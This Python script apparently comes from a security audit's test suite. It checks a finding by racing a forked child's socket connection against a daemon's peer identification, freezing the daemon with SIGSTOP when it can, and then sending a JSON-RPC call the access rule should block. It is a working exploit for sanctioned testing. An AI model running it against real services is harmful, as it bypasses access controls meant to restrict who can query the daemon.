"""Escapes a rule that restricts a service, with a connection whose process has ended.

Findings: A.2, H3

    escape.py SOCKET [DAEMON]

A child connects with a socket that it shares with its parent, and ends before the daemon identifies
it. With the process id of the daemon, which only the daemon's own user can use, the daemon is stopped
in the meantime. Without it the attack is a race, which is tried 2,000 times.
"""

import contextlib
import json
import os
import signal
import socket
import sys

from attack import PATIENCE, eventually, refused, succeeded, unprepared

path = sys.argv[1]
daemon = int(sys.argv[2]) if len(sys.argv) > 2 else None


def stop(process):
    """Stops a process, and returns when none of its threads is running."""
    def is_stopped():
        states = []
        for thread in os.listdir(f"/proc/{process}/task"):
            # A thread may have ended meanwhile.
            with contextlib.suppress(FileNotFoundError, ProcessLookupError), open(
                    f"/proc/{process}/task/{thread}/stat") as file:
                states.append(file.read().rpartition(")")[2].split()[0])
        return set(states) == {"T"}

    os.kill(process, signal.SIGSTOP)
    eventually("the daemon stops", is_stopped)


def left_connection():
    shared = socket.socket(socket.AF_UNIX)
    shared.settimeout(PATIENCE)
    if daemon:
        stop(daemon)
    try:
        child = os.fork()
        if child == 0:
            try:
                shared.connect(path)
            finally:
                os._exit(0)
        os.waitpid(child, 0)
    finally:
        if daemon:
            os.kill(daemon, signal.SIGCONT)
    return shared


last = None
for attempt in range(1 if daemon else 2000):
    with left_connection() as connection:
        try:
            # A call that the rule does not allow.
            connection.sendall(b'{"jsonrpc":"2.0","id":1,"method":"flow.list"}\n')
            reply = json.loads(connection.makefile().readline())
        except (OSError, ValueError):
            continue
    if "result" in reply:
        succeeded(f"the rule did not hold at attempt {attempt + 1}")
    last = reply["error"]["data"]["reason"]
if last is None:
    unprepared("no connection was answered")
refused(last)
